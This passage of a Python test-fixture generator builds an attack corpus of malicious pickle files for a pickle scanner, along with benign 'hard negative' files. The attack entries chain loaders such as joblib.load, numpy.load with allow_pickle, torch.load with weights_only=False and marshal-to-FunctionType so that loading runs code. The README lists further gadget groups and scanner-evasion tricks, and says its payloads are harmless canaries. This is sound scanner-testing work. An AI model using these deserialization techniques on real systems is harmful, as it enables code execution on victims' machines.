    c.add("i05_joblib_load_bytesio.pkl", pkl(C(G("joblib", "load"), C(G("_io", "BytesIO"), zlib.compress(plain))), 4), I,
          "joblib.load(io.BytesIO(zlib joblib file))", "nested joblib.load", L, modules=["joblib"])
    npy_inner = npy(hdr, obj)
    c.add("i06_numpy_load_partial_allow_pickle.pkl", pkl(C(partial_kw(G("numpy", "load"), allow_pickle=True), C(G("_io", "BytesIO"), npy_inner)), 4), I,
          "functools.partial(numpy.load, allow_pickle=True) (kwargs set by BUILD) on an object .npy in memory", "nested numpy.load", L, modules=["numpy"])
    tz = build_zip(torch_zip(P2))
    c.add("i07_torch_load_partial_bytesio.pkl", pkl(C(partial_kw(G("torch", "load"), weights_only=False), C(G("_io", "BytesIO"), tz)), 4), I,
          "functools.partial(torch.load, weights_only=False) on an in-memory torch zip", "nested torch.load", L, modules=["torch"], needs=["torch"])
    code = compile(CODE, "<pickle-attack>", "exec")
    import marshal

    c.add("i08_marshal_loads_FunctionType.pkl", pkl(C(C(G("types", "FunctionType"), C(G("marshal", "loads"), marshal.dumps(code)), {})), 4), I,
          "types.FunctionType(marshal.loads(code bytes), {})() (code bytes are CPython-version specific)", "picklescan PR #74 (marshal)", L, modules=["marshal", "types"],
          note="marshal data written by CPython %d.%d" % sys.version_info[:2])
    c.add("i09_pickle_Unpickler_load.pkl", pkl(C(getattr_(C(G("pickle", "Unpickler"), C(G("_io", "BytesIO"), inner_pickle)), "load")), 2), I,
          "pickle.Unpickler(BytesIO(x)).load via getattr", "nested pickles", L, modules=["pickle"])
    c.add("i10_pandas_read_pickle.pkl", pkl(C(G("pandas", "read_pickle"), C(G("_io", "BytesIO"), inner_pickle)), 4), I,
          "pandas.read_pickle(BytesIO(inner))", "nested pickles (pandas)", L, modules=["pandas"])
    c.add("i11_codecs_latin1_bytes_loads.pkl", pkl(C(G("pickle", "loads"), C(G("_codecs", "encode"), inner_pickle.decode("latin1"), "latin1")), 2), I,
          "pickle.loads of bytes written the Python 2 way: _codecs.encode(str, 'latin1')", "nested pickles", L, modules=["pickle"])
    c.add("i12_zlib_decompress_loads.pkl", pkl(C(G("pickle", "loads"), C(G("zlib", "decompress"), zlib.compress(inner_pickle))), 4), I,
          "pickle.loads(zlib.decompress(...)): the inner pickle is compressed", "nested pickles", L, modules=["pickle", "zlib"])
    return c.entries


# ---------------------------------------------------------------------------
# Hard negatives


def gen_hard_negatives(out):
    import pickle

    os.makedirs(out, exist_ok=True)
    entries = []

    def ver(mod):
        try:
            m = __import__(mod)
            return "%s %s" % (mod, getattr(m, "__version__", "?"))
        except Exception:
            return mod

    pyver = "CPython %d.%d.%d" % sys.version_info[:3]

    def add(name, data, kind, writer):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        entries.append({"file": name, "kind": kind, "writer": writer, "expect": "not dangerous"})

    import decimal
    import datetime
    import fractions
    import http
    import ipaddress
    import pathlib
    import signal
    import socket
    import subprocess
    import time
    import urllib.parse
    import uuid
    import logging
    import enum
    import collections
    import zoneinfo

    st = os.stat(__file__)
    values = {
        "os_stat_result": os.stat_result(tuple(range(10))),
        "os_stat_result_real": os.stat_result(tuple(st)[:10]),
        "time_struct_time": time.struct_time((2024, 1, 2, 3, 4, 5, 1, 2, 0)),
        "urllib_ParseResult": urllib.parse.urlparse("https://example.org/a?b=c#d"),
        "urllib_SplitResult": urllib.parse.urlsplit("https://example.org/a?b=c#d"),
        "urllib_DefragResult": urllib.parse.urldefrag("https://example.org/a#d"),
        "http_HTTPStatus": [http.HTTPStatus.OK, http.HTTPStatus.NOT_FOUND],
        "http_HTTPMethod": [http.HTTPMethod.GET] if hasattr(http, "HTTPMethod") else [http.HTTPStatus.IM_A_TEAPOT],
        "subprocess_CompletedProcess": subprocess.CompletedProcess(["ls", "-l"], 0, b"out", b""),
        "subprocess_CalledProcessError": subprocess.CalledProcessError(1, ["false"], b"", b""),
        "signal_Signals": [signal.SIGINT, signal.SIGTERM],
        "signal_Handlers": [signal.SIG_DFL, signal.SIG_IGN],
        "socket_AddressFamily": [socket.AF_INET, socket.AF_INET6],
        "socket_SocketKind": [socket.SOCK_STREAM, socket.SOCK_DGRAM],
        "logging_levels": {"level": logging.INFO, "name": logging.getLevelName(logging.INFO)},
        "decimal_Decimal": [decimal.Decimal("1.10"), decimal.Decimal("-Infinity")],
        "uuid_UUID": uuid.UUID("12345678-1234-5678-1234-567812345678"),
        "ipaddress": [ipaddress.ip_address("10.0.0.1"), ipaddress.ip_network("10.0.0.0/8"), ipaddress.ip_interface("::1/128")],
        "pathlib_PurePosixPath": [pathlib.PurePosixPath("/etc/hosts"), pathlib.PureWindowsPath("C:/x")],
        "datetime_tz": [datetime.datetime(2024, 1, 2, 3, 4, 5, tzinfo=datetime.timezone(datetime.timedelta(hours=2))), datetime.timezone.utc],
        "zoneinfo_ZoneInfo": datetime.datetime(2024, 1, 2, tzinfo=zoneinfo.ZoneInfo("UTC")),
        "fractions_Fraction": fractions.Fraction(3, 7),
        "collections_mix": [collections.OrderedDict(a=1), collections.Counter("abca"), collections.deque([1, 2]), collections.defaultdict(list, {"k": [1]})],
        "enum_Enum_stdlib": [enum.Flag, socket.MsgFlag.MSG_PEEK] if hasattr(socket, "MsgFlag") else [socket.AF_UNIX],
        "os_terminal_size": os.terminal_size((80, 24)),
        "time_struct_time_tm_zone": time.localtime(0),
    }
    for key, val in values.items():
        for proto in (0, 2, 4, 5):
            try:
                data = pickle.dumps(val, protocol=proto)
            except Exception as e:
                print("skip", key, proto, e, file=sys.stderr)
                continue
            add(f"stdlib_{key}.p{proto}.pkl", data, f"stdlib data type {key}", pyver)

    # numpy
    import numpy as np

    npv = ver("numpy")
    b = io.BytesIO()
    np.save(b, np.arange(12, dtype="<f8").reshape(3, 4))
    add("numpy_float_array.npy", b.getvalue(), "np.save numeric array", npv)
    b = io.BytesIO()
    np.save(b, np.array([1, "two", 3.0, None, (4, 5)], dtype=object), allow_pickle=True)
    add("numpy_object_array_plain_data.npy", b.getvalue(), "np.save object array of plain data", npv)
    b = io.BytesIO()
    np.save(b, np.zeros((2, 2), dtype=[("a", "<f8"), ("b", "<i4")]))
    add("numpy_structured.npy", b.getvalue(), "np.save structured array", npv)
    b = io.BytesIO()
    np.savez(b, a=np.arange(3), b=np.ones(2))
    add("numpy_savez.npz", b.getvalue(), "np.savez", npv)
    b = io.BytesIO()
    np.savez_compressed(b, a=np.arange(30), o=np.array([{"k": 1}], dtype=object))
    add("numpy_savez_compressed_object.npz", b.getvalue(), "np.savez_compressed with an object array of a dict", npv)
    for proto in (2, 4, 5):
        add(f"numpy_matrix.p{proto}.pkl", pickle.dumps(np.matrix([[1, 2], [3, 4]]), protocol=proto), "np.matrix pickle (numpy.matrixlib.defmatrix.matrix)", npv)
        add(f"numpy_RandomState.p{proto}.pkl", pickle.dumps(np.random.RandomState(0), protocol=proto), "RandomState pickle", npv)
        add(f"numpy_Generator.p{proto}.pkl", pickle.dumps(np.random.default_rng(0), protocol=proto), "Generator pickle", npv)
        add(f"numpy_arrays_mixed.p{proto}.pkl", pickle.dumps({"f": np.arange(5.0), "dt": np.array(["2024-01-01"], dtype="M8[D]"), "s": np.float32(1.5), "u": np.array(["ab"]), "ma": np.ma.masked_array([1, 2], mask=[0, 1])}, protocol=proto), "numpy arrays, scalars, masked array", npv)

    # pandas
    import pandas as pd

    pdv = ver("pandas")
    frames = {
        "df_tz": pd.DataFrame({"t": pd.date_range("2024-01-01", periods=3, tz="Europe/Paris"), "x": [1, 2, 3]}),
        "categorical": pd.Series(pd.Categorical(["a", "b", "a"])),
        "period": pd.Series(pd.period_range("2024-01", periods=3, freq="M")),
        "sparse": pd.Series(pd.arrays.SparseArray([0, 0, 1.0])),
        "multiindex": pd.DataFrame({"v": [1, 2]}, index=pd.MultiIndex.from_tuples([("a", 1), ("b", 2)])),
        "interval_timedelta": pd.DataFrame({"i": pd.interval_range(0, 3), "td": pd.to_timedelta([1, 2, 3], unit="s")}),
        "nat_and_na": pd.DataFrame({"t": [pd.NaT, pd.Timestamp("2024-01-01")], "n": pd.array([1, None], dtype="Int64")}),
    }
    try:
        import pytz

        frames["pytz"] = pd.DataFrame({"t": pd.date_range("2024-01-01", periods=2, tz=pytz.timezone("US/Eastern"))})
        for proto in (2, 4):
            add(f"pytz_timezone.p{proto}.pkl", pickle.dumps([pytz.timezone("Europe/Paris"), pytz.utc], protocol=proto), "pytz timezones (pytz._p)", ver("pytz"))
    except ImportError:
        pass
    for key, df in frames.items():
        for proto in (2, 4, 5):
            add(f"pandas_{key}.p{proto}.pkl", pickle.dumps(df, protocol=proto), f"pandas {key}", pdv)
    p = os.path.join(out, "pandas_to_pickle.pkl")
    frames["df_tz"].to_pickle(p, compression=None)
    entries.append({"file": "pandas_to_pickle.pkl", "kind": "DataFrame.to_pickle(compression=None)", "writer": pdv, "expect": "not dangerous"})

    # scikit-learn + joblib
    import joblib
    import sklearn
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler, OneHotEncoder
    from sklearn.tree import DecisionTreeClassifier
    from sklearn.ensemble import RandomForestClassifier

    skv = "scikit-learn %s, joblib %s" % (sklearn.__version__, joblib.__version__)
    X = np.arange(40, dtype=float).reshape(20, 2)
    y = np.array([0, 1] * 10)
    models = {
        "logreg": LogisticRegression().fit(X, y),
        "pipeline": make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y),
        "tree": DecisionTreeClassifier(max_depth=2, random_state=0).fit(X, y),
        "forest": RandomForestClassifier(n_estimators=2, max_depth=2, random_state=0).fit(X, y),
        "onehot": OneHotEncoder().fit([["a"], ["b"]]),
    }
    for key, m in models.items():
        add(f"sklearn_{key}.p4.pkl", pickle.dumps(m, protocol=4), f"scikit-learn {key} via pickle", skv)
    for key in ("pipeline", "forest"):
        for comp, ext in ((0, "joblib"), (3, "joblib.z"), ("gzip", "joblib.gz"), ("bz2", "joblib.bz2"), ("xz", "joblib.xz"), ("lzma", "joblib.lzma"), ("lz4", "joblib.lz4")):
            name = f"sklearn_{key}_compress_{comp}.{ext}"
            try:
                joblib.dump(models[key], os.path.join(out, name), compress=comp)
            except Exception as e:
                print("skip", name, e, file=sys.stderr)
                continue
            entries.append({"file": name, "kind": f"joblib.dump(scikit-learn {key}, compress={comp!r})", "writer": skv, "expect": "not dangerous"})
    joblib.dump({"a": np.arange(10.0), "o": np.array([1, "x"], dtype=object), "f": np.asfortranarray(np.ones((3, 2))), "u": np.array(["abc"]), "s": np.zeros(2, dtype=[("a", "f8"), ("b", "i4")])},
                os.path.join(out, "joblib_arrays_mixed.joblib"))
    entries.append({"file": "joblib_arrays_mixed.joblib", "kind": "joblib.dump of float, object, Fortran, unicode and structured arrays", "writer": skv, "expect": "not dangerous"})

    # joblib < 0.10 legacy NDArrayWrapper: main pickle + side .npy files
    legacy = b"\x80\x02}q\x00(X\x01\x00\x00\x00aq\x01cjoblib.numpy_pickle\nNDArrayWrapper\nq\x02)\x81q\x03}q\x04(X\x08\x00\x00\x00filenameq\x05X\x18\x00\x00\x00joblib_legacy.pkl_01.npyq\x06X\x08\x00\x00\x00subclassq\x07cnumpy\nndarray\nq\x08X\n\x00\x00\x00allow_mmapq\t\x88ubu."
    add("joblib_legacy.pkl", legacy, "joblib <= 0.9 NDArrayWrapper (array in a side .npy)", "hand-built as joblib 0.9 numpy_pickle wrote it")
    b = io.BytesIO()
    np.save(b, np.arange(4.0))
    add("joblib_legacy.pkl_01.npy", b.getvalue(), "joblib <= 0.9 side array file", npv)
    legacy_sk = legacy.replace(b"cjoblib.numpy_pickle\n", b"csklearn.externals.joblib.numpy_pickle\n")
    add("joblib_legacy_sklearn_externals.pkl", legacy_sk.replace(b"\x18\x00\x00\x00joblib_legacy.pkl_01.npy", b"\x18\x00\x00\x00joblib_legacy.pkl_01.npy"), "sklearn.externals.joblib NDArrayWrapper (old scikit-learn)", "hand-built")
    zdata = zlib.compress(pickle.dumps({"w": [1.0, 2.0]}, protocol=2), 3)
    add("joblib_legacy_zfile.pkl", b"ZF" + hex(len(pickle.dumps({"w": [1.0, 2.0]}, protocol=2))).encode().ljust(19) + zdata, "joblib < 0.10 ZF z-file with plain data", "hand-built as joblib 0.9 write_zfile")

    # names older numpy / pandas wrote (rebuilt here as those versions pickled them)
    def raw_of(obj):
        d = pickle.dumps(obj, protocol=2)
        assert d[:2] == b"\x80\x02" and d[-1:] == b"."
        return Raw(d[2:-1])

    rs = np.random.RandomState(1)
    old_rs = Build(C(G("numpy.random", "__RandomState_ctor")), raw_of(rs.get_state()))
    add("numpy_old_RandomState_ctor.p2.pkl", pkl(old_rs, 2), "RandomState as numpy < 1.17 pickled it (numpy.random.__RandomState_ctor)", "hand-built after numpy 1.16 mtrand.pyx")
    add("numpy_matrix_defmatrix.p2.pkl", pkl(C(G("numpy.core.multiarray", "_reconstruct"), G("numpy.matrixlib.defmatrix", "matrix"), (0,), b"b"), 2),
        "np.matrix reconstruct as numpy 1.x named it (numpy.matrixlib.defmatrix.matrix)", "hand-built after numpy 1.x")
    old_pd = [
        C(G("pandas.tslib", "__nat_unpickle"), None),
        C(G("pandas.indexes.base", "_new_Index"), G("pandas.indexes.base", "Index"), {"data": raw_of(np.array(["a", "b"], dtype=object)), "name": None}),
        C(G("pandas.tslib", "Timestamp"), 1500000000000000000, None, None),
        C(G("pandas.core.index", "_new_Index"), G("pandas.core.index", "Int64Index"), {"data": raw_of(np.arange(3)), "name": "i"}),
        C(G("pytz", "_p"), "Europe/Paris", 3600, 0, "CET"),
    ]
    add("pandas_old_names.p2.pkl", pkl(old_pd, 2), "names pandas 0.19/0.20 pickles use (pandas.tslib.__nat_unpickle, pandas.indexes.base._new_Index, pytz._p)", "hand-built after pandas 0.20")

    return entries


def gen_torch_negatives(out):
    import pickle  # noqa: F401

    entries = []

    def ver(mod):
        m = __import__(mod)
        return "%s %s" % (mod, getattr(m, "__version__", "?"))

    def add(name, data, kind, writer):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        entries.append({"file": name, "kind": kind, "writer": writer, "expect": "not dangerous"})

    try:
        import torch

        tv = ver("torch")
        tb = io.BytesIO()
        torch.save({"w": torch.arange(6, dtype=torch.float32).reshape(2, 3), "step": 1}, tb)
        add("torch_state_dict.pt", tb.getvalue(), "torch.save zip", tv)
        tb = io.BytesIO()
        torch.save(torch.nn.Linear(2, 2).state_dict(), tb, _use_new_zipfile_serialization=False)
        add("torch_legacy_state_dict.pt", tb.getvalue(), "torch.save legacy (non-zip)", tv)
        tb = io.BytesIO()
        torch.save(torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU()), tb)
        add("torch_module.pt", tb.getvalue(), "torch.save of a whole nn.Module", tv)
    except ImportError:
        print("note: torch not installed; torch hard negatives not written", file=sys.stderr)
    return entries


GROUPS = {
    "a_zip": "(a) zip lookup tricks: what torch.load finds in a zip",
    "b_joblib_extent": "(b) joblib raw-array extents: where joblib stops reading",
    "c_joblib_compressed": "(c) compressed joblib files (every compressor, the old ZF format)",
    "d_gadget": "(d) published gadgets: callables that run commands, load code or write files",
    "e_dotted": "(e) dotted names and getattr chains that reach a denied module through another",
    "f_numpy": "(f) numpy containers: object arrays in .npy / .npz",
    "g_torch_legacy": "(g) torch legacy formats: the five-pickle stream and the pre-0.4 tar",
    "h_parser": "(h) parser-level tricks: memo indices, frames, broken tails, odd opcodes, Python 2 names",
    "i_nested": "(i) nested loaders: pickles inside pickles, numpy/joblib/torch loads from memory",
}

README_HEAD = """# Attack corpus for `pickle scan`

Every file here runs code (or touches the system) when Python loads it the way
its manifest entry's `loader` says, and every one must be called **dangerous**
by `pickle scan`; none may be called safe. The techniques come from public
advisories and scanner bug reports: picklescan's GHSA advisories and
CVE-2025-1716 / 1889 / 1944 / 1945 / 10155 / 10156 / 10157, fickling's advisories and
issues, modelscan issues #330 / #331 / #338 and PR #313 / #346, ReversingLabs'
"nullifAI" broken pickles, JFrog's and Sonatype's picklescan write-ups, and
the scanners' own test suites. The payloads are our own, assembled opcode by
opcode; every command is harmless (`echo pickle-attack-corpus`, a write to
`/tmp/pickle-attack-corpus-canary`, `touch` of a canary file in the
harness's sandbox).

* `tests/scripts/gen_attacks.py` writes the files and `manifest.json`
  (stdlib only; lz4 optional, the committed `c06_lz4.joblib.lz4` is kept
  when it is missing).
* `tests/scripts/verify_attacks.py` loads each file in a fresh `python3 -I`
  under a `sys.addaudithook` hook that records and *blocks* the first event
  showing code execution (os.system, subprocess.Popen, exec/compile of
  non-module code, file writes outside its sandbox, sockets, ...), and writes
  `verified` into the manifest: `audit:<event>` (the call was reached and
  blocked), `emulated audit:<event>` (torch absent: torch's loader emulated),
  `effect:<file>` (Tcl's `exec`, which Python does not audit, left its
  harmless canary in the sandbox), or `not run: <reason>`.
* `tests/scan_attacks.rs` asserts the verdicts (run it with
  `--features torch,joblib-compress`, as the CLI is built) and prints
  `attacks: N dangerous, N unknown, N error, N safe; hard negatives: ...`.
* `tests/scripts/compare_scanners.py --attacks ... --hard-negatives ...`
  produced the table below.

Verification here: CPython 3.11.7 with numpy 2.4.6, joblib 1.6.0,
pandas 3.1.1, scikit-learn 1.9.1, lz4 4.4.5, torch 2.15.0 (CPU, from PyPI);
`python_hint` entries ran under CPython 3.13.0 (`py313`: `_pyrepl`, the
3.13 `_aix_support`) or numpy 2.3.5 (`numpy<2.4`: modelscan #330's
`numpy.size` gadget, which numpy 2.4 rewrote). The three `not run` entries
are torch gadgets published against older torch releases
(`torch.utils.bottleneck.__main__`, `torch._inductor.codecache.compile_file`)
that torch 2.15 no longer has; they stay because the scanner must flag them
for the files of those torch versions.

Regenerate: `python3 tests/scripts/gen_attacks.py` (keeps `verified` of
unchanged entries), then `python3 tests/scripts/verify_attacks.py
[--torch-python PY] [--alt-python py313=PY] [--alt-python 'numpy<2.4=PY']`,
then `python3 tests/scripts/gen_attacks.py --readme TABLE.md` with the
output of compare_scanners.py to rewrite this file.
"""


def write_readme(out, table_path):
    entries = json.load(open(os.path.join(out, "manifest.json")))
    table = open(table_path).read().strip() if table_path and os.path.exists(table_path) else "(no table)"
    lines = [README_HEAD, "## Scanners on this corpus and on ../hard_negatives", "", table, ""]
    counts = {}
    for e in entries:
        counts.setdefault(e["group"], [0, 0])
        counts[e["group"]][0] += 1
        if (e.get("verified") or "").startswith(("audit:", "emulated audit:", "effect:")):
            counts[e["group"]][1] += 1
    lines += ["## Groups", "", "| group | files | verified in CPython |", "|---|---|---|"]
    for g, (n, v) in counts.items():
        lines.append("| %s | %d | %d |" % (GROUPS.get(g, g), n, v))
    lines.append("| total | %d | %d |" % (sum(n for n, _ in counts.values()), sum(v for _, v in counts.values())))
    lines += ["", "## Every payload", "", "| file | group | technique | source | loader | verified |", "|---|---|---|---|---|---|"]
    esc = lambda t: str(t).replace("|", "\\|").replace("\n", " ")
    for e in entries:
        lines.append("| %s | %s | %s | %s | %s | %s |" % (e["file"], e["group"], esc(e["technique"]), esc(e["source"]), e["loader"], esc(e.get("verified"))))
    with open(os.path.join(out, "README.md"), "w") as f:
        f.write("\n".join(lines) + "\n")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--readme", metavar="TABLE.md", help="attacks: only rewrite README.md from the manifest and this comparison table")
    ap.add_argument("--hard-negatives", action="store_true")
    ap.add_argument("--out")
    ap.add_argument("--part", choices=["all", "torch"], default="all",
                    help="hard negatives: 'torch' (re)writes only the torch files, from an interpreter that has torch")
    args = ap.parse_args()
    root = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures")
    if args.readme:
        write_readme(args.out or os.path.join(root, "attacks"), args.readme)
        return
    if args.hard_negatives:
        out = args.out or os.path.join(root, "hard_negatives")
        man = os.path.join(out, "manifest.json")
        kept = [e for e in json.load(open(man))] if os.path.exists(man) else []
        if args.part == "torch":
            entries = [e for e in kept if not e["file"].startswith("torch_")] + gen_torch_negatives(out)
        else:
            torch_kept = [e for e in kept if e["file"].startswith("torch_")]
            entries = gen_hard_negatives(out)
            try:
                import torch  # noqa: F401

                entries += gen_torch_negatives(out)
            except ImportError:
                print("note: torch not installed; keeping the committed torch_* files (run --part torch with torch)", file=sys.stderr)
                entries += torch_kept
            ext = os.path.join(out, "external", "manifest.json")
            if os.path.exists(ext):
                entries += [dict(e, file="external/" + e["file"]) for e in json.load(open(ext))]
    else:
        out = args.out or os.path.join(root, "attacks")
        entries = gen_attacks(out)
    man = os.path.join(out, "manifest.json")
    old = {}
    if os.path.exists(man):
        for e in json.load(open(man)):
            old[e["file"]] = e
    for e in entries:
        # keep verification results and extra notes of unchanged entries
        prev = old.get(e["file"])
        if prev and not args.hard_negatives and prev.get("technique") == e.get("technique"):
            e["verified"] = prev.get("verified")
    if args.hard_negatives and os.path.exists(os.path.join(out, "external", "manifest.json")):
        pass
    with open(man, "w") as f:
        json.dump(entries, f, indent=1)
        f.write("\n")
    print("%d files in %s" % (len(entries), out))


if __name__ == "__main__":
    main()
